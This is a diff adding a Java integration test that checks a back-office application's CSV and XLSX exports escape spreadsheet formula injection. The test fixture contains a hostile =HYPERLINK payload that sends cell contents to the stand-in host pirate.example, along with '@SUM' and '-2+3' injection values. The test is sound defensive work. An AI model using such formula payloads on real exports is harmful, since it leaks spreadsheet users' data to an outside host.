@@ -88,6 +88,54 @@ class BackOfficeListIT {
                 "the export is audited");
     }
 
+    /** A request whose dénomination a spreadsheet would run as a formula, as a hostile supplier could type it. */
+    private static final String FORMULA_SIRET = "90681453800011";
+    private static final String FORMULA = "=HYPERLINK(\"https://pirate.example/?d=\"&A1;\"Cliquez\")";
+
+    @Test
+    void aDenominationThatLooksLikeAFormulaIsExportedAsText() throws Exception {
+        try (Connection c = db(); PreparedStatement ps = c.prepareStatement("insert into enrolment_request (request_number, "
+                + "status, submitted_at, version, referencing_number, software_name, software_version, dsr_label, siret, "
+                + "denomination, street_type, street_name, postal_code, city, distributor, editor_name, "
+                + "filer_is_representative, iban, bic, account_holder, bank_domiciliation, commitments_accepted_at) "
+                + "values (?, 'SOUMISE', current_timestamp, 1, 'aafy63256', '@SUM(1+1)', '1.1', "
+                + "'Radiologie / RIS / Vague 1', ?, ?, 'RUE', 'DE FIGUERAS', '13700', "
+                + "'ST VICTORET', false, '-2+3', true, 'FR7613135000800800267924623', "
+                + "'CEPAFRPP313', 'ASM', 'CE MID PYRENEES TOULOUSE', current_timestamp)")) {
+            ps.setString(1, "TSF" + (System.nanoTime() % 1_000_000_000L));
+            ps.setString(2, FORMULA_SIRET);
+            ps.setString(3, FORMULA);
+            ps.executeUpdate();
+        }
+        WebClient agent = new WebClient(base.toString());
+        agent.loginThrough("backoffice/index.xhtml", "agent@asp-public.fr");
+
+        String csv = agent.get("backoffice/export.csv?siret=" + FORMULA_SIRET).body();
+        // commons-csv quotes the cell (it holds quotes and a semicolon); inside, the apostrophe comes first.
+        assertTrue(csv.contains(";\"'=HYPERLINK(\"\"https://pirate.example/"), csv);
+        assertTrue(csv.contains(";'@SUM(1+1);"), csv);
+        assertFalse(csv.contains(";\"=HYPERLINK") || csv.contains(";=HYPERLINK") || csv.contains(";@SUM"), csv);
+
+        HttpResponse<byte[]> xlsx = agent.getBytes("backoffice/export.xlsx?siret=" + FORMULA_SIRET);
+        Path file = Files.createTempFile("export", ".xlsx");
+        Files.write(file, xlsx.body());
+        StringBuilder sheet = new StringBuilder();
+        try (ZipFile zip = new ZipFile(file.toFile())) {
+            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
+                if (entry.getName().startsWith("xl/worksheets/")) {
+                    sheet.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
+                }
+            }
+        } finally {
+            Files.delete(file);
+        }
+        // The apostrophe as the XML writes it (fastexcel escapes it).
+        String text = sheet.toString().replace("&apos;", "'");
+        assertTrue(text.contains("<is><t>'=HYPERLINK("), text);
+        assertTrue(text.contains("<is><t>'@SUM(1+1)</t></is>"), text);
+        assertFalse(sheet.indexOf("<f>") >= 0, "no formula in the sheet");
+    }
+
     @Test
     void theSameRowsExportAsAnXlsxWorkbook() throws Exception {
         WebClient agent = new WebClient(base.toString());
